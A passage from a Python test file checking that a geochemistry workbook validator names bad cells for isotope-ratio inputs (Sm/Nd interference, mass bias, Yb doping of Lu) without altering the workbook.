    ({"r5_name": "147Sm/144Nd", "r5": 20.0, "r5_sigma_1s": 1e-3}, "analysis",
     "stripping the isobars of this Nd run: the interferences on 144Nd reach its whole beam"),
    ({"bias_factor": 1.9, "bias_factor_1s": 0.01}, "bias_factor", "Nd is normalised to 146Nd/144Nd within its own run"),
])
def test_bad_input_in_the_new_measured_columns_is_named_at_its_cell(tmp_path, capsys, change, key, problem):
    """Issue 12's columns (monitor ratios, Ion, β of a self-normalising run): one message at the cell; the typed
    workbook is not changed."""
    def edit(t):
        t["Measured"][_nd_row(t)].update(change)
    t, c, _s = _with(edit)
    k = _nd_row(t)
    path = _write(t, tmp_path / "m.xlsx", constants=c)
    before = _digest(path)
    err = _fails(path, tmp_path, capsys)
    assert f"{_cell(MEASURED, k, key)}: {problem}" in err, err
    assert _digest(path) == before


def test_lu_yb_doping_conflicts_and_gaps_are_named(tmp_path, capsys):
    """Yb doping needs both 173Yb/175Lu and 171Yb/175Lu, and a typed β beside it is a conflict, named."""
    def edit(t):
        k = next(k for k, r in enumerate(t["Measured"]) if r["element"] == "Lu")
        t["Measured"][k].update({"r2_name": "173Yb/175Lu", "r2": 0.3, "r2_sigma_1s": 1e-5,
                                 "r3_name": "171Yb/175Lu", "r3": 0.27, "r3_sigma_1s": 1e-5})
    t, c, _s = _with(edit)
    k = next(k for k, r in enumerate(t["Measured"]) if r["element"] == "Lu")
    err = _fails(_write(t, tmp_path / "y.xlsx", constants=c), tmp_path, capsys)
    assert f"{_cell(MEASURED, k, 'bias_factor')}: β is typed and also given by Yb doping" in err, err
    t["Measured"][k].pop("r3_name"), t["Measured"][k].pop("r3"), t["Measured"][k].pop("r3_sigma_1s")
    t["Measured"][k].pop("bias_factor"), t["Measured"][k].pop("bias_factor_1s")
    err = _fails(_write(t, tmp_path / "z.xlsx", constants=c), tmp_path, capsys)
    assert "Yb doping needs both 173Yb/175Lu and 171Yb/175Lu" in err, err
